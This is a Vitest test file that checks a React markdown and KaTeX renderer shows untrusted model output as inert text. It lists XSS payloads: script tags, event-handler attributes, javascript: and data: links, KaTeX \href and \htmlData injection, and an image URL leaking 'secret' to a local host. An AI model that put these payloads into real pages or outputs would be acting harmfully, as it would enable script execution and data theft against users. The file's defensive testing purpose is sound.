import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { MarkdownBlock } from "./markdown";
import { typesetAnswer } from "./answer-typeset";

// Model text is hostile (DESIGN.md "Trust boundaries"): every payload renders as inert text.
const PAYLOADS = [
  "<script>window.__xss=1</script>",
  '<img src=x onerror="window.__xss=2">',
  '<iframe srcdoc="<script>parent.__xss=3</script>"></iframe>',
  '<svg onload="window.__xss=4"><circle r=1 /></svg>',
  '<details open ontoggle="window.__xss=5">x</details>',
  '<a href="javascript:window.__xss=6">html link</a>',
  "[md link](javascript:window.__xss=7)",
  "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![leak](http://127.0.0.1:9/leak.png?ctx=secret)",
  "$\\href{javascript:window.__xss=8}{x}$",
  "\\(\\url{javascript:window.__xss=9}\\)",
  "$$\\htmlData{onclick=window.__xss=10}{x}$$",
  "<style>body{display:none}</style>",
  '<form action="http://127.0.0.1:9/"><input name=a></form>',
];

const render = (el: ReturnType<typeof createElement>) => renderToStaticMarkup(el);

/** Checks the markup only: text is escaped by React (&lt; &quot;), so payload text never matches. */
function assertInert(html: string) {
  expect(html).not.toMatch(/<(script|iframe|img|svg|style|form|input|object|embed|details)\b/i);
  expect(html).not.toMatch(/<[^>]*\son[a-z]+=/i);
  expect(html).not.toMatch(/<[^>]*href="\s*(javascript|data):/i);
  expect(html).not.toMatch(/<[^>]*\ssrc=/i);
}

describe("rendered view: hostile text stays text", () => {
  it("no payload becomes markup, a handler, a script URL or a fetched image", () => {
    for (const p of PAYLOADS) {
      const html = render(createElement(MarkdownBlock, { text: `before ${p} after` }));
      assertInert(html);
    }
    const all = render(createElement(MarkdownBlock, { text: PAYLOADS.join("\n\n") }));
    assertInert(all);
    // What the model wrote is still there to read: tags as their characters, the image as its
    // address, links as text.
    expect(all).toContain("http://127.0.0.1:9/leak.png?ctx=secret");
    expect(all).toContain("md link");
    expect(all).toContain("&lt;script&gt;window.__xss=1&lt;/script&gt;");
    const think = render(createElement(MarkdownBlock, { text: "so the answer is 4.</think>\n\nThe answer is 4<|im_end|>" }));
    expect(think).toContain("&lt;/think&gt;");
    expect(think).toContain("&lt;|im_end|&gt;");
  });

  it("KaTeX commands that would make links or attributes render as plain text (trust: false)", () => {
    const html = render(createElement(MarkdownBlock, { text: "$\\href{https://evil.example}{click}$ and $\\url{https://evil.example}$" }));
    expect(html).not.toMatch(/<a\s/);
  });

  it("answers are typeset without trusting them", () => {
    expect(typesetAnswer("\\frac{1}{2}")).toContain('class="katex"');
    for (const p of ["\\href{javascript:alert(1)}{x}", "<img src=x onerror=alert(1)>", "\\htmlData{a=b}{x}"]) {
      assertInert(typesetAnswer(p));
    }
  });
});
